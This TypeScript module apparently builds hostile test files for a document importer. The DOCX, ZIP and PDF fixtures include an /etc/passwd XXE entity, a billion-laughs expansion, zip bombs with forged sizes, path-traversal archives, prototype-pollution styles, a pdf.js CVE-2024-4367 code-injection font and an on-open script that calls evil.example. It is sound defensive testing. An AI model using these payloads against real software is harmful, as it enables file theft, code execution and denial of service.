import { deflateRawSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'

const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const relations = 'http://schemas.openxmlformats.org/package/2006/relationships'

const types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
const body = (inner: string, head = '') =>
  `<?xml version="1.0"?>${head}<w:document xmlns:w="${word}" xmlns:r="${office}"><w:body>${inner}</w:body></w:document>`

/** A Word file of these parts. */
export const docx = (document: string, more: Readonly<Record<string, Uint8Array>> = {}): Uint8Array =>
  zipSync({ '[Content_Types].xml': strToU8(types), 'word/document.xml': strToU8(document), ...more })

const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`

/** The shape of CVE-2025-11849: a picture outside the file, which mammoth before 1.11.0 read from the disk. */
export function docxWithOutsidePicture(target: string): Uint8Array {
  const drawing = `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="rId9"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
  const rels = `<Relationships xmlns="${relations}"><Relationship Id="rId9" Type="${office}/image" Target="${target}" TargetMode="External"/></Relationships>`
  return docx(body(paragraph('Ran nights') + drawing), { 'word/_rels/document.xml.rels': strToU8(rels) })
}

/** External and exponential entities of XML. */
export const docxWithEntities = (): Uint8Array =>
  docx(
    body(
      paragraph('Ran &secret; &d;'),
      '<!DOCTYPE w [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>',
    ),
  )

/** Styles whose names are those of an object's insides (mammoth before 1.12.2). */
export const docxWithProtoStyle = (): Uint8Array =>
  docx(body(`<w:p><w:pPr><w:pStyle w:val="__proto__"/></w:pPr><w:r><w:t>Ran nights</w:t></w:r></w:p>`), {
    'word/styles.xml': strToU8(
      `<w:styles xmlns:w="${word}"><w:style w:type="paragraph" w:styleId="__proto__"><w:name w:val="constructor"/></w:style></w:styles>`,
    ),
  })

/** A hundred kilobytes that unpack to `megabytes` of spaces. */
export const docxBomb = (megabytes: number): Uint8Array =>
  docx('', { 'word/document.xml': new Uint8Array(megabytes * 1024 * 1024).fill(32) })

/** The same with headers that claim a hundred bytes. */
export function docxBombThatLies(megabytes: number): Uint8Array {
  const bytes = docxBomb(megabytes)
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength)
  for (let at = 0; at < bytes.length - 46; at += 1) {
    if (view.getUint32(at, true) === 0x04034b50 && view.getUint32(at + 22, true) > 1e6)
      view.setUint32(at + 22, 100, true)
    if (view.getUint32(at, true) === 0x02014b50 && view.getUint32(at + 24, true) > 1e6)
      view.setUint32(at + 24, 100, true)
  }
  return bytes
}

/** An archive whose files would be written elsewhere. */
export const zipThatSlips = (name: string): Uint8Array =>
  zipSync({ [name]: strToU8('x'), 'Positions.csv': strToU8('Company Name\nX\n') })

/** An archive that lists the same name twice: what is checked is not what is read. */
export function zipWithDoubles(): Uint8Array {
  const bytes = zipSync({ 'Positions.csv': strToU8('Company Name\nX\n'), 'Positions.csx': strToU8('y') })
  return new Uint8Array(
    Buffer.from(Buffer.from(bytes).toString('latin1').replaceAll('Positions.csx', 'Positions.csv'), 'latin1'),
  )
}

export const zipOfMany = (count: number): Uint8Array =>
  zipSync(
    {
      'Positions.csv': strToU8('a'),
      ...Object.fromEntries(Array.from({ length: count }, (_, i) => [`f${i}`, new Uint8Array()])),
    },
    { level: 0 },
  )

/** A PDF of one page from objects 3 on; object 1 is the catalogue, 2 the pages, 3 the page. */
export function pdf(objects: readonly (string | Uint8Array)[]): Uint8Array {
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n')]
  const offsets: number[] = []
  const add = (part: string | Uint8Array) =>
    parts.push(typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))
  const length = () => parts.reduce((sum, part) => sum + part.length, 0)
  const all = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 1 /Kids [3 0 R] >>', ...objects]
  for (const [index, object] of all.entries()) {
    offsets.push(length())
    add(`${index + 1} 0 obj\n`)
    add(object)
    add('\nendobj\n')
  }
  const start = length()
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  add(
    `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${all.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF`,
  )
  return new Uint8Array(Buffer.concat(parts))
}

const page =
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>'
const stream = (text: string) => `<< /Length ${text.length} >>\nstream\n${text}\nendstream`
const words = 'BT /F1 12 Tf 60 700 Td (Ran nights) Tj ET'
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'

/** The shape of CVE-2024-4367: a font whose matrix is text that pdf.js before 4.2.67 evaluated. */
export const pdfFontMatrix = (): Uint8Array =>
  pdf([
    page,
    stream(words),
    '<< /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [1 2 3 4 5 (1\\); process.exit\\(7\\); //)] /FirstChar 0 /LastChar 255 /Widths [500] /FontDescriptor 6 0 R >>',
    '<< /Type /FontDescriptor /FontName /X /Flags 4 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 >>',
  ])

/** Operators that inflate from a few kilobytes to `megabytes`. */
export function pdfOperatorBomb(megabytes: number): Uint8Array {
  const packed = deflateRawSync(
    Buffer.from(`${words}\n`.repeat(Math.floor((megabytes * 1024 * 1024) / (words.length + 1)))),
  )
  const zlib = Buffer.concat([Buffer.from([0x78, 0x9c]), packed, Buffer.alloc(4)])
  const head = Buffer.from(`<< /Length ${zlib.length} /Filter /FlateDecode >>\nstream\n`)
  return pdf([page, new Uint8Array(Buffer.concat([head, zlib, Buffer.from('\nendstream')])), font])
}

/** A page tree that contains itself. */
export const pdfLoop = (): Uint8Array => pdf(['<< /Type /Pages /Count 1 /Kids [2 0 R] >>'])

/** Script and forms that act on opening. */
export const pdfWithScript = (): Uint8Array =>
  pdf([
    page.replace('>> >>', '>> /AA << /O << /S /JavaScript /JS (app.launchURL\\("https://evil.example"\\)) >> >> >>'),
    stream(words),
    font,
  ])
